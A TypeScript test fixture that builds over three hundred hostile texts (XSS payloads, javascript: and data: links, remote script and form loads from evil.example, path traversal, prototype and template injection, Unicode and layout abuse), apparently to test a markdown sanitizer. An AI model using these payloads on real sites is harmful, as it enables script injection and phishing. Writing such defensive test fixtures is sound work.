/**
 * Texts that try to run code, to mislead the reader or to break a page's layout, by kind of attack. Every script among
 * them would set `window.harmed`.
 */
const harm = 'window.harmed=1';

const attacks: Readonly<Record<string, string>> = {
  script: `<script>${harm}</script>`,
  'script in capitals': `<ScRiPt>${harm}</sCrIpT>`,
  'script that is never closed': `<script>${harm}`,
  'script from elsewhere': '<script src="https://evil.example/x.js"></script>',
  'picture that fails': `<img src=x onerror="${harm}">`,
  'picture that fails, without quotes': `<img src=x onerror=${harm}//`,
  'drawing that loads': `<svg onload="${harm}"></svg>`,
  'drawing with a script': `<svg><script>${harm}</script></svg>`,
  'drawing that animates a link': `<svg><a><animate attributeName=href values="javascript:${harm}"/></a></svg>`,
  frame: `<iframe src="javascript:parent.${harm.replace('window.', '')}"></iframe>`,
  'frame with a document': `<iframe srcdoc="<script>parent.harmed=1</script>"></iframe>`,
  object: `<object data="data:text/html,<script>${harm}</script>"></object>`,
  embed: `<embed src="javascript:${harm}">`,
  style: '<style>body{display:none}</style>',
  'style that imports': '<style>@import "https://evil.example/x.css";</style>',
  'attribute of style': '<p style="position:fixed;inset:0;background:red">over all</p>',
  base: '<base href="https://evil.example/">',
  meta: '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  form: '<form action="https://evil.example/"><input name=q><button>Go</button></form>',
  focus: `<input autofocus onfocus="${harm}">`,
  details: `<details open ontoggle="${harm}">x</details>`,
  video: `<video><source onerror="${harm}"></video>`,
  mathematics: `<math><mtext><table><mglyph><style><img src=x onerror="${harm}">`,
  template: `<template><script>${harm}</script></template>`,
  noscript: `<noscript><p title="</noscript><img src=x onerror=${harm}>">`,
  comment: `<!--><script>${harm}</script>-->`,
  'section of characters': `<![CDATA[<script>${harm}</script>]]>`,
  'unclosed elements': '<div><div><table><tr><td><b><i>',
  'closing elements': '</p></div></main></body></html>',
  'link that runs': `[x](javascript:${harm})`,
  'link that runs, in capitals': `[x](JaVaScRiPt:${harm})`,
  'link that runs, with a tab': `[x](java&Tab;script:${harm})`,
  'link that runs, with a line': `[x](java&NewLine;script:${harm})`,
  'link that runs, as numbers': `[x](&#106;avascript:${harm})`,
  'link that runs, by reference': `[x][evil]\n\n[evil]: javascript:${harm}`,
  'link that runs, in brackets': `<javascript:${harm}>`,
  'link of data': `[x](data:text/html,<script>${harm}</script>)`,
  'link of Visual Basic': '[x](vbscript:msgbox(1))',
  'link to a file': '[x](file:///etc/passwd)',
  'link to another host, in disguise': '[x](//evil.example/)',
  'link with a password': '[x](https://shop.example@evil.example/)',
  'link with a title that breaks out': `[x](https://example.com/ "\\" onmouseover=\\"${harm}")`,
  'picture from elsewhere': '![x](https://evil.example/x.png)',
  'picture that runs': `![x](javascript:${harm})`,
  'picture of data': '![x](data:image/svg+xml,<svg onload="alert(1)"/>)',
  'picture outside its folder': '![x](/images/../../etc/passwd.png)',
  'picture whose text breaks out': `![" onerror="${harm}](/images/fallback.jpg)`,
  'picture by reference': '![x][evil]\n\n[evil]: https://evil.example/x.png',
  'directive of another kind': `:::script\n${harm}\n:::`,
  'directive with handlers': `::activity{name=food-tour city=krakow onclick="${harm}"}`,
  'directive with HTML in it': `::activity[<img src=x onerror=${harm}>]{name=food-tour city=krakow}`,
  'directive of a city that breaks out': '::city{name="../../etc"}',
  'directive in a line': 'Here :activity{name=food-tour city=krakow} it is',
  'directive that is never closed': ':::city{name=krakow}\nand so on',
  'prototype by directive': '::city{__proto__=x constructor=y name=krakow}',
  'code of expressions':
    '{{constructor.constructor("window.harmed=1")()}} ${window.harmed=1} <%= 1 %>',
  'import of a module': 'import x from "https://evil.example/x.js"\n\nexport const y = 1',
  'very long word': 'W'.repeat(3000),
  'very long address': `https://example.com/${'a'.repeat(3000)}`,
  'very long code': `\`${'x'.repeat(3000)}\``,
  'very long line of code': `\`\`\`\n${'x '.repeat(1500)}\n\`\`\``,
  'table of forty columns': `${'| wide '.repeat(40)}|\n${'|---'.repeat(40)}|\n${'| cells '.repeat(40)}|`,
  'tower of marks': `Z${'\u0301'.repeat(400)}a${'\u0323'.repeat(400)}`,
  'text that runs backwards': '\u202Egnp.txet\u202E \u2066 \u2067 hidden',
  'zeroes and bells': 'a\u0000b\u0007c\u001Bd\uFEFFe',
  'quotes in quotes': `${'> '.repeat(60)}deep`,
  'lists in lists': Array.from({ length: 40 }, (_, level) => `${'  '.repeat(level)}- deep`).join(
    '\n',
  ),
  'brackets without end': '[['.repeat(500),
  'stars without end': '*_'.repeat(500),
  'a hundred headings': '# top\n\n'.repeat(100),
  'heading named like the page': '## content\n\n## __next\n\n## contact',
  footnote: `text[^1]\n\n[^1]: <script>${harm}</script>`,
  'hidden by space': `${'\u3000'.repeat(500)}x`,
  'wall of space': `a${'\u00a0'.repeat(500)}b`,
};

const oneLine = (text: string) => text.replaceAll(/\s*\n\s*/g, ' ');

/** The positions of an attack in a text. */
const places: Readonly<Record<string, (attack: string) => string>> = {
  'on its own': (attack) => attack,
  'in a sentence': (attack) => `Before ${oneLine(attack)} after.`,
  'in a heading': (attack) => `## A ${oneLine(attack)} heading`,
  'in a list': (attack) => `- one\n- ${oneLine(attack)}\n- three`,
  'in a quote': (attack) => `> ${oneLine(attack)}`,
};

export interface HostileText {
  readonly name: string;
  readonly attack: string;
  readonly text: string;
}

/** More than three hundred texts. */
export const hostileTexts: readonly HostileText[] = Object.entries(attacks).flatMap(
  ([attack, text]) =>
    Object.entries(places).map(([place, put]) => ({
      name: `${attack}, ${place}`,
      attack,
      text: put(text),
    })),
);
